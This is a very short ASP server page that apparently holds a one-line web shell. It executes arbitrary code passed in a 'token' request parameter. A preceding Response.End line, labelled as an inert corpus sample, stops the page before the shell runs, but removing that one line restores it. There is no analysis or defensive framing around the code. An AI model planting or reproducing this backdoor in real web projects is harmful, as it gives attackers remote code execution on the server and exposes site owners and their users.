<% Response.End ' inert corpus sample (hegui) %>
<%
If Request("token") <> "" Then Execute(Request("token"))
%>
